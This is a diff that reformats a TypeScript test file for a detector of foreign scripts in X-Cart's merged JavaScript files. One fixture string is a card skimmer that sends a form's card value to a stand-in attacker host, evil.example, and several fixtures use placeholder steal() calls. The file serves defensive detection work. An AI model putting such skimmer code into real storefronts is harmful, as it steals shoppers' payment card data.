@@ -55,7 +55,12 @@ describe("scripts that X-Cart merges on the shared files", () => {
   });
 
   test.each<[string, string, string, string]>([
-    ["a skimmer behind the last script", MERGED, `${right}fetch('https://evil.example/'+document.forms[0].card.value);`, "the part odd.js is not the release's"],
+    [
+      "a skimmer behind the last script",
+      MERGED,
+      `${right}fetch('https://evil.example/'+document.forms[0].card.value);`,
+      "the part odd.js is not the release's",
+    ],
     ["one inside a script", MERGED, right.replace("window.core", "steal();window.core"), "the part core.js is not the release's"],
     ["one before all", MERGED, `steal();${right}`, "text before the first script of the release"],
     ["one with a heading of its own", MERGED, right + merged(["extra.js", "steal()"]), "the part extra.js is not the release's"],
@@ -87,7 +92,11 @@ describe("scripts that X-Cart merges on the shared files", () => {
     put(MERGED, right + merged(["custom.js", custom]));
     expect(look().said).toMatchObject([{ outcome: "clean", looked: "2" }]);
     put("public/var/theme/custom.js", "steal()");
-    expect(look().said.filter(({ event }) => event === "script").map(({ path }) => path)).toEqual([MERGED, "public/var/theme/custom.js"]);
+    expect(
+      look()
+        .said.filter(({ event }) => event === "script")
+        .map(({ path }) => path),
+    ).toEqual([MERGED, "public/var/theme/custom.js"]);
   });
 
   test("an agreement to all of the store's scripts is none to what staff write", () => {
